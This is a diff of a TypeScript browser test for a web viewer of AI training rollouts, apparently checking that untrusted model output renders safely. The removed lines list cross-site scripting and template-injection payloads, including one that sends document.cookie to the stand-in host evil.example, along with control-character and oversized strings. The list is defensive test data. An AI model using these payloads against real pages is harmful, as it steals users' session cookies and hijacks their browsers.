@@ -6,33 +6,19 @@
 import assert from "node:assert/strict";
 import { after, before, describe, test } from "node:test";
 import { create } from "@bufbuild/protobuf";
-import {
-  BucketName,
-  openBucket,
-  openRewardKey,
-  publishStored,
-  RewardGiver,
-  RunControl,
-  respond,
-  StreamName,
-  slotToWire,
-  subjects,
-} from "@hone/messaging";
-import {
-  RewardReplySchema,
-  RewardRequestSchema,
-  RewardResult,
-  RolloutRewardsSchema,
-} from "@hone/proto-gen/judge";
-import { EpisodeSchema, ScoredEpisodeSchema } from "@hone/proto-gen/rollout";
+import { publishStored, RewardGiver, RunControl, respond, subjects } from "@hone/messaging";
+import { RewardReplySchema, RewardRequestSchema, RewardResult } from "@hone/proto-gen/judge";
+import { ScoredEpisodeSchema } from "@hone/proto-gen/rollout";
 import { ControlReplySchema, ControlRequestSchema } from "@hone/proto-gen/run";
 import type { RunningService } from "@hone/service-kit";
 import { eventually } from "@hone/testing";
 import type { Browser, BrowserContext, Page } from "playwright-core";
 import { chatEpisode } from "../testing/chat-episode.ts";
 import { findChromium, launchChromium } from "../testing/find-chromium.ts";
+import { ATTACKS, OWNED } from "../testing/hostile-texts.ts";
 import { publishSampleRun } from "../testing/sample-run.ts";
 import { startStack, type TracerStack } from "../testing/stack.ts";
+import { storeWaitingRollout } from "../testing/waiting-rollout.ts";
 
 const chromium = await findChromium(process.env.HONE_CHROMIUM);
 const skip =
@@ -46,24 +32,6 @@ const RUN = "/runs/frozen-lake-1";
 const CHAT = `${RUN}/rollouts/eval.40.5.1`;
 const HOSTILE = `${RUN}/rollouts/eval.40.6.0`;
 const WAITING = `${RUN}/waiting/train.41.0.0`;
-const OWNED = "document.title='owned';fetch('https://evil.example/?'+document.cookie)";
-/** What a model may write to act on the page that shows it. */
-const ATTACKS = [
-  `<script>${OWNED}</script>`,
-  `<img src=x onerror="${OWNED}">`,
-  `<svg onload="${OWNED}"><style>*{display:none!important}</style></svg>`,
-  `<a href="javascript:${OWNED}">click</a> [click](javascript:${OWNED}) javascript:${OWNED}`,
-  `<iframe srcdoc="<script>parent.${OWNED}</script>"></iframe>`,
-  `" onmouseover="${OWNED}" x="`,
-  `</code></pre></div></main><style>body{visibility:hidden}</style>`,
-  "\u202egnp.exe\u202c \u2066abc\u2069 \u0000\u0007\u001b[31mred\u009b",
-  `e${"\u0301".repeat(4_000)}`,
-  "W".repeat(300_000),
-  "<think>".repeat(2_000),
-  `<tool_call>{"name":"<img src=x onerror=${OWNED}>","arguments":{"<b>":"<script>${OWNED}</script>"}}</tool_call>`,
-  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
-].join("\n");
-
 describe("the page's views in a browser", { timeout: 240_000, skip }, () => {
   let stack: TracerStack;
   let tracer: RunningService;
@@ -114,7 +82,7 @@ describe("the page's views in a browser", { timeout: 240_000, skip }, () => {
       await publishStored(stack.bus, subjects.rolloutScored(runId), ScoredEpisodeSchema, scored);
     }
     await stack.stored();
-    await waitingRollout();
+    await storeWaitingRollout(stack);
     await open.stop();
     tracer = await stack.startTracer({
       HONE_TRACER_TOKEN: TOKEN,
@@ -139,31 +107,6 @@ describe("the page's views in a browser", { timeout: 240_000, skip }, () => {
     await tracer?.stop();
     await stack?.[Symbol.asyncDispose]();
   });
-
-  /** A finished rollout that waits for the reward of a person, as the judge stores it. */
-  async function waitingRollout(): Promise<void> {
-    const { runId } = stack.run;
-    const slot = { split: "train", step: 41, task: 0, index: 0 } as const;
-    const { episode } = chatEpisode(runId, slot);
-    assert.ok(episode !== undefined);
-    await publishStored(
-      stack.bus,
-      subjects.rolloutFinished(runId),
-      EpisodeSchema,
-      create(EpisodeSchema, episode),
-    );
-    const { state } = await stack.bus.manager.streams.info(StreamName.episodes);
-    const bucket = await openBucket(stack.bus, BucketName.rewards, RolloutRewardsSchema);
-    await bucket.put(
-      openRewardKey(runId, slot),
-      create(RolloutRewardsSchema, {
-        finished: { position: BigInt(state.last_seq), runId, slot: slotToWire(slot), attempt: 1 },
-        sinceMs: BigInt(Date.now() - 60_000),
-        deadlineMs: 3_600_000n,
-        awaited: [{ judge: "people", weight: 1, place: 0 }],
-      }),
-    );
-  }
 
   const open = (place: string) => page.goto(`${tracer.http.url}${place}`);
   const look = async <T>(expression: string, of: Page = page) => (await of.evaluate(expression)) as T;
